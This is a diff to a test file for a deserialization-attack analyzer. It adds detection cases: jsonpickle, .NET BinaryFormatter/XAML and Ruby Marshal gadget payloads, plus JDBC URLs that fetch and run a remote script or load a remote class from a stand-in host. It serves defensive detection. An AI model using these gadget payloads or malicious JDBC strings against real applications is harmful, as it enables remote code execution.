@@ -103,7 +103,35 @@ describe("deserialization analyzer", () => {
     expect(s(pickle4.toString("latin1"))).toBe(0.95);
   });
 
+  test(".NET BinaryFormatter streams and XAML that starts a process; Ruby Marshal objects and gadgets; jsonpickle calls", () => {
+    const binary = Buffer.from([0, 1, 0, 0, 0, 255, 255, 255, 255, 1, 0, 0, 0, 0, 0, 0, 0, 12, 2]);
+    expect(s(binary.toString("base64"))).toBe(0.9);
+    expect(s(binary.toString("hex"))).toBe(0.9);
+    expect(s('<ObjectDataProvider x:Key="a" ObjectType="{x:Type sd:Process}" MethodName="Start">')).toBe(0.9);
+    expect(s("clr-namespace:System.Diagnostics;assembly=System")).toBe(0.9);
+    const marshal = Buffer.from("\x04\bo:\x15Gem::Requirement\x06:\x10@requirements", "latin1");
+    expect(s(marshal.toString("base64"))).toBe(0.85);
+    expect(s(marshal.toString("latin1"))).toBe(0.9);
+    expect(s("--- !ruby/hash:Net::WriteAdapter")).toBeGreaterThanOrEqual(0.85);
+    expect(s('{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}')).toBe(0.95);
+    expect(s('{"py/reduce":[{"py/type":"myapp.Thing"}]}')).toBe(0.8);
+    // A JSON body's leaves: the callable's name under jsonpickle's key.
+    expect(strength(deserializationAnalyzer, "subprocess.Popen", { name: "py/object" })).toBe(0.95);
+  });
+
+  test("JDBC URLs whose driver properties run a script, deserialize or load a class; plain ones are nothing", () => {
+    for (const v of ["jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://198.51.100.7/x.sql'", "jdbc:mysql://198.51.100.7:3306/db?autoDeserialize=true&queryInterceptors=x.Y", "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/b.xml"]) {
+      expect([v, s(v)]).toEqual([v, 0.9]);
+    }
+    for (const v of ["jdbc:mysql://db.internal:3306/shop?useSSL=true", "jdbc:postgresql://localhost:5432/app", "jdbc:h2:mem:testdb"]) expect([v, s(v)]).toEqual([v, 0]);
+  });
+
   test("ordinary values are not serialized objects", () => {
+    // A Rails session cookie (a Marshal hash), jsonpickle of the application's own class, ViewState-like
+    // base64, C++ and Ruby names in prose.
+    const rails = Buffer.from("\x04\b{\x07I\"\x0fsession_id\x06:\x06ET", "latin1").toString("base64");
+    for (const v of [rails, '{"py/object":"myapp.models.Prefs","theme":"dark"}', "Gem::Requirement and std::vector", "/wEPDwUKMTIzNDU2Nzg5MGRk"]) expect(s(v)).toBe(0);
+    expect(strength(deserializationAnalyzer, "myapp.models.Prefs", { name: "py/object" })).toBe(0);
     for (const v of ["hello world", "O:1 in the score", "type=text", "!!important", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x", '{"type":"click","x":1}']) {
       expect(s(v)).toBe(0);
     }
